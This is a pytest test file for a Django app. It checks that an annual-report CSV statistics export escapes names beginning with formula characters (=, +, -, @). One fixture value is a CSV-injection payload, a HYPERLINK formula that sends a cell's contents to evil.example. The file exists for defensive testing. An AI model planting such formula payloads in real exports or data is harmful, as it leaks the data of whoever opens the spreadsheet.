"""/rapporter/<year>/statistik.csv: names that Excel would run as formulas arrive as text."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal, InvalidOperation

import pytest

from tests.factories import (
    AnnualReportFactory,
    EnterpriseFactory,
    MunicipalityFactory,
    OrganisationFactory,
    PlacementFactory,
    PlacementTypeFactory,
    TrainingPlaceFactory,
    UnitFactory,
)

pytestmark = pytest.mark.django_db
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ENTERPRISE = '=HYPERLINK("http://evil.example/?leak="&B2,"Öppna")'


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


def test_names_that_start_like_formulas_are_neutralised_in_the_statistics(client, time_machine):
    time_machine.move_to(datetime.datetime(2022, 2, 1, 12, tzinfo=datetime.UTC), tick=False)
    municipality = MunicipalityFactory(name="+Kommunen")
    enterprise = EnterpriseFactory(name=ENTERPRISE, municipalities=[municipality])
    unit = UnitFactory(enterprise=enterprise, municipality=municipality)
    place = TrainingPlaceFactory(enterprise=enterprise, unit=unit, capacity=2)
    PlacementFactory(
        place=place,
        placement_type=PlacementTypeFactory(code="ÖAT", name="@Arbetsträning", slug="oat"),
        referrer=OrganisationFactory(name="-Remittenten"),
        started_on=datetime.date(2022, 3, 1),
        ended_on=datetime.date(2022, 6, 1),
        outcome="work",
    )
    AnnualReportFactory(year=2022, published=True)

    response = client.get("/rapporter/2022/statistik.csv")

    assert response.status_code == 200
    content = response.content.decode("utf-8-sig")
    header, *body = list(csv.reader(io.StringIO(content, newline=""), delimiter=";"))
    assert header == ["År", "Tabell", "Rad", "Mått", "Antal"]
    assert ["2022", "Per företag", f"'{ENTERPRISE}", "Platser", "2"] in body
    assert ["2022", "Per kommun", "'+Kommunen", "Platser", "2"] in body
    assert ["2022", "Per placeringstyp", "'@Arbetsträning", "Påbörjade placeringar", "1"] in body
    assert ["2022", "Per remittent", "'-Remittenten", "Avslutade placeringar", "1"] in body
    for row in body:
        for cell in row:
            assert is_number(cell) or not cell.startswith(FORMULA_STARTS), cell
